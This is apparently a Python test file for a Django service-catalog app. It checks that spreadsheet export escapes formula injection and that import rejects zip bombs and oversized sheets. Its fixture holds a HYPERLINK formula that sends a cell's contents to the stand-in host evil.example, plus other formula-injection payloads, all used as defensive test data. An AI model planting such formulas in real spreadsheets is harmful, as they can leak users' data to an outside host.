"""Catalog export neutralises formulas; catalog import refuses zip bombs and oversize sheets
before they cost anything (issue 12 items 6 and 7)."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from govhall.catalog.models import ServiceItem
from govhall.catalog.services.imports import catalog_import_start, import_catalog
from govhall.catalog.services.items import item_create
from govhall.catalog.spreadsheet.exporting import export_catalog
from govhall.core.models import Event, Job
from govhall.testing.catalog_sheets import item_row, snapshot, workbook_bytes
from govhall.testing.spreadsheets import refused_uninflated, zip_bomb_xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"详情")'


@pytest.fixture(autouse=True)
def _english():
    # Messages are checked by their English wording; the default language is Chinese.
    with translation.override("en"):
        yield


@pytest.fixture
def item(county, department, director):  # type: ignore[no-untyped-def]
    return item_create(
        actor=director,
        center=county,
        department=department,
        code="FX1",
        name=HYPERLINK,
        item_type="licensing",
        legal_days=5,
        promised_days=1,
        phone="+86 0571-1234",
        place="-",
        basis="@SUM(1,2)",
        conditions="'=quoted already",
    ).item


def test_export_neutralises_formulas_and_the_round_trip_holds(item, county, director):
    exported = export_catalog(county)
    workbook = load_workbook(io.BytesIO(exported))
    sheet = workbook["事项"]
    header = [cell.value for cell in sheet[1]]
    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert row["事项名称"].value == "'" + HYPERLINK
    assert row["事项名称"].data_type == "s"  # text, never a formula
    assert row["咨询电话"].value == "'+86 0571-1234"
    assert row["办理地点"].value == "'-"
    assert row["设定依据"].value == "'@SUM(1,2)"
    assert row["受理条件"].value == "''=quoted already"
    before = snapshot(county)
    ServiceItem.objects.filter(center=county).delete()
    outcome = import_catalog(actor=director, center=county, source=exported)
    assert outcome.ok, outcome.problems
    assert snapshot(county) == before
    assert ServiceItem.objects.get(code="FX1").name == HYPERLINK


def test_zip_bomb_upload_is_refused_at_once_and_changes_nothing(
    county, director, settings, tmp_path
):
    settings.VAR_DIR = tmp_path
    upload = SimpleUploadedFile("catalog.xlsx", zip_bomb_xlsx())
    events = Event.objects.count()
    with pytest.raises(ValidationError) as refused:
        refused_uninflated(
            lambda: catalog_import_start(actor=director, center=county, upload=upload)
        )
    assert "zip bomb" in " ".join(refused.value.messages)
    assert not Job.objects.exists() and not list(Path(tmp_path).rglob("*.xlsx"))
    assert Event.objects.count() == events and not ServiceItem.objects.exists()


def test_zip_bomb_given_to_the_importer_directly_is_refused(county, director):
    bomb = zip_bomb_xlsx()
    outcome = refused_uninflated(lambda: import_catalog(actor=director, center=county, source=bomb))
    assert not outcome.ok and "zip bomb" in outcome.problems[0]["message"]
    assert not ServiceItem.objects.exists()


def test_a_workbook_over_the_cell_limit_is_refused(county, department, director, settings):
    data = workbook_bytes([item_row(f"C{n}") for n in range(30)])
    settings.GOVHALL_IMPORT_MAX_CELLS = 100
    outcome = import_catalog(actor=director, center=county, source=data)
    assert not outcome.ok
    assert "more than 100 cells" in outcome.problems[0]["message"]
    assert not ServiceItem.objects.exists()
    settings.GOVHALL_IMPORT_MAX_CELLS = 10_000
    assert import_catalog(actor=director, center=county, source=data).ok


def test_an_over_long_cell_is_refused(county, department, director, settings):
    settings.GOVHALL_IMPORT_MAX_CELL_CHARS = 50
    data = workbook_bytes([item_row("L1", 设定依据="长" * 51)])
    outcome = import_catalog(actor=director, center=county, source=data)
    assert not outcome.ok and "51 characters" in outcome.problems[0]["message"]
    assert not ServiceItem.objects.exists()
